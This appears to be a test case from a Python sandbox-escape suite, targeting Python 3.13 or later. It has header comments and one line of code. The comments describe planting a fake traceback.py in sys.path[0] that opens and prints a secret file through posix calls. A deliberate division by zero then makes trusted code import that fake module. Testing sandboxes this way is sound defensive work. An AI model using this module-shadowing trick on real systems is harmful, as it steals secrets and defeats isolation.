# technique: an uncaught exception or a warning makes trusted code import traceback: ours
# goal: read-secret
# source: sys.path[0]
# python: 3.13+
# beside: traceback.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
1 / 0
